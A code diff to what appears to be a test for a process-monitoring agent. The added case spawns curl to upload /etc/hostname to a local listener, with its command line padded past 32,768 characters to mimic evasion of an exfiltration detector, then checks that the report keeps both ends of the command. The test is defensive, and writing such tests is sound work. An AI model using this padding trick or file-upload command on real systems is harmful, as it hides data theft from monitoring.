@@ -43,7 +43,10 @@ it('loops until SIGTERM, posting the held connection once, then exits 0', async 
     listener.close();
   });
   const listenerPort = (listener.address() as AddressInfo).port;
-  const curl = spawn('curl', ['-s', `http://127.0.0.1:${listenerPort}/`], { stdio: 'ignore' });
+  // Its command line padded past what a report carries (32,768 characters), with the upload flag
+  // at the end, as one that hides it from the exfil-tool detector would be.
+  const pad = `X-Pad: ${'a'.repeat(40_000)}`;
+  const curl = spawn('curl', ['-s', '-H', pad, '-T', '/etc/hostname', `http://127.0.0.1:${listenerPort}/`], { stdio: 'ignore' });
   children.push(curl);
   await new Promise<void>((resolve, reject) => {
     listener.once('connection', () => resolve());
@@ -74,7 +77,12 @@ it('loops until SIGTERM, posting the held connection once, then exits 0', async 
   const stopped = JSON.parse(stdout.trim().split('\n').at(-1) ?? '{}') as { passes: number; sent: number };
   expect(stopped.sent).toBe(1);
   expect(bodies).toHaveLength(1);
-  const body = bodies[0] as { reports: Array<{ pid: number; name: string; ppid: number }> };
+  const body = bodies[0] as { reports: Array<{ pid: number; name: string; ppid: number; cmdline: string }> };
   expect(body.reports).toHaveLength(1);
   expect(body.reports[0]).toMatchObject({ pid: curl.pid, name: 'curl', ppid: process.pid });
+  // The command line's head (the program) and its tail (the upload flag) both reach the gateway.
+  const cmdline = body.reports[0]?.cmdline ?? '';
+  expect(cmdline.length).toBe(32_768);
+  expect(cmdline.startsWith('curl -s -H X-Pad: aaa')).toBe(true);
+  expect(cmdline.endsWith(` -T /etc/hostname http://127.0.0.1:${listenerPort}/`)).toBe(true);
 });
